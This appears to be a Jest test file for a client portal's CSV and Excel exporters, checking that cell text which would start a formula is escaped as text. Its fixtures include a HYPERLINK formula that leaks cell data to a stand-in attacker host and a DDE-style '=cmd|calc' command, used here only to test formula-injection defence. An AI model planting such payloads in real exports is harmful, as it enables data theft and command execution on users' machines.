import ExcelJS from 'exceljs';
import { clientStatuses, onboardingProgressValues, type ClientListItem } from '@portal/shared/contracts';
import type { WeightAdjustmentRow } from '../db/schema';
import { inflowsWorkbook } from '../modules/client-documents/inflows';
import { clientsCsv, clientsWorkbook } from '../modules/client-export/build';
import { changeLogCsv } from '../modules/custom-portfolios/change-log';
import { csvLine, defused } from './spreadsheet';

// Every CSV and Excel file the API writes goes through lib/spreadsheet.ts: one test per writer that a formula in the
// data reaches the file as text.
const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Details")';

/** The text cells of every sheet of a workbook. */
async function sheetTexts(data: Buffer): Promise<string[]> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(data as unknown as ExcelJS.Buffer);
  const texts: string[] = [];
  workbook.eachSheet((sheet) =>
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        // a formula cell would come back as { formula }, never as a string
        expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
        if (typeof cell.value === 'string') texts.push(cell.value);
      }),
    ),
  );
  return texts;
}

describe('the neutralisation of spreadsheet cells', () => {
  it('keeps a text that would start a formula as text, and leaves every other text alone', () => {
    for (const formula of [HYPERLINK, '+41 44 000', '-2+3', '@SUM(A1)', '\t=1', '\r=1', '  =1', '\uff1d1']) {
      expect(defused(formula)).toBe(`'${formula}`);
    }
    for (const text of ['Zinsen Plus', 'a=b', "O'Brien", '', '1-2']) expect(defused(text)).toBe(text);
  });

  it('writes a CSV line with quoted, defused texts and numbers as numbers, a negative one too', () => {
    expect(csvLine([HYPERLINK, 'say "hi"', -12.5, null, undefined])).toBe(`"'${HYPERLINK.replace(/"/g, '""')}";"say ""hi""";-12.5;;`);
    expect(csvLine([1234.5], (value) => value.toFixed(2))).toBe('1234.50');
  });
});

describe('each CSV and Excel writer', () => {
  const client = {
    id: 1,
    first_name: HYPERLINK,
    last_name: 'Muster',
    email: '@evil.example',
    phone: null,
    status: clientStatuses[0],
    funnel_stage: 'client',
    onboarding_progress: onboardingProgressValues[0],
    service_kinds: [],
    invested_amount: -250.5,
    adviser: { id: 2, name: '+Anna Adviser' },
    custodian_banks: [],
    created_at: '2026-11-25T10:00:00.000Z',
  } as unknown as ClientListItem;

  it('the client list as CSV', () => {
    const csv = clientsCsv([client], 'de', 'CHF');
    expect(csv).toContain(`"'${HYPERLINK.replace(/"/g, '""')} Muster"`);
    expect(csv).toContain(`"'@evil.example"`);
    expect(csv).toContain(`"'+Anna Adviser"`);
    expect(csv).toContain(';-250.50;');
  });

  it('the client list as Excel', async () => {
    const texts = await sheetTexts(await clientsWorkbook([client], 'de', 'CHF'));
    expect(texts).toEqual(expect.arrayContaining([`'${HYPERLINK} Muster`, "'@evil.example", "'+Anna Adviser"]));
    expect(texts.filter((text) => /^[=+\-@]/.test(text))).toEqual([]);
  });

  it("a weight adjustment's change log as CSV, with a formula in an ISIN's name", () => {
    const entry = { isin: 'CH0038863350', name: HYPERLINK, currency: 'CHF' };
    const adjustment = {
      status: 'approved',
      requestedAt: new Date('2026-11-20T10:00:00Z'),
      processedAt: new Date('2026-11-21T10:00:00Z'),
      previousWeights: [{ ...entry, weight: 10 }],
      requestedWeights: [{ ...entry, weight: 12.5 }],
      newWeights: [{ ...entry, weight: 12.5 }],
    } as unknown as WeightAdjustmentRow;
    const csv = changeLogCsv('=cmd|calc', adjustment, 'de');
    expect(csv).toContain(`"Gewichtsanpassung";"'=cmd|calc"`);
    expect(csv).toContain(`"'${HYPERLINK.replace(/"/g, '""')}";"CH0038863350";10;12.5;12.5`);
    expect(csv.split('\r\n').filter((line) => /(^|;)"?[=+\-@]/.test(line))).toEqual([]);
  });

  it("a client's inflows as Excel, with a formula in a service's transaction kind", async () => {
    const texts = await sheetTexts(
      await inflowsWorkbook([{ name: 'Vermögensverwaltung', flows: [{ date: '2026-01-05', kind: HYPERLINK, amount: 1000 }] }], 'de'),
    );
    expect(texts).toContain(`'${HYPERLINK}`);
    expect(texts.filter((text) => /^[=+\-@]/.test(text))).toEqual([]);
  });
});
